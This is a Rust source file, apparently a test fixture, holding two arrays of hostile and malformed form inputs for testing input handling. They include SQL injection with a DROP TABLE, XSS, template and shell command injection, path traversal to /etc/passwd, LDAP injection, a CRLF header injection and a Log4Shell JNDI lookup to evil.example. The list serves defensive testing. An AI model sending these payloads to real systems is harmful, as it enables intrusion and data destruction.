//! What people have put into fields elsewhere to do harm.

/// As text.
pub const CORPUS: [&str; 20] = [
    "' OR '1'='1' --",
    "'; drop table log.entry; --",
    "\\'; select pg_sleep(5); --",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "$(sleep 5)`sleep 5`;sleep 5|sleep 5",
    "../../../../etc/passwd",
    "%s%n%x",
    "a@example.com,b@example.com",
    "*)(uid=*))(|(uid=*",
    "${jndi:ldap://evil.example/a}",
    "\u{202e}\u{2066}\u{200b}\u{feff}",
    "\u{ff10}\u{ff14}\u{ff15}",
    "🏥\u{1f468}\u{200d}\u{1f469}",
    "\u{8fbb}\u{e0100}\u{20bb7}",
    "e\u{301}\u{301}\u{301}\u{301}",
    "NaN",
    "-1",
    "__proto__",
];

/// As bytes of a form, which are no text.
pub const RAW: [&str; 8] = [
    "%",
    "%0",
    "%zz",
    "%00",
    "%0d%0aSet-Cookie:x=1",
    "%ff%fe",
    "%ed%a0%80",
    "%c0%af",
];
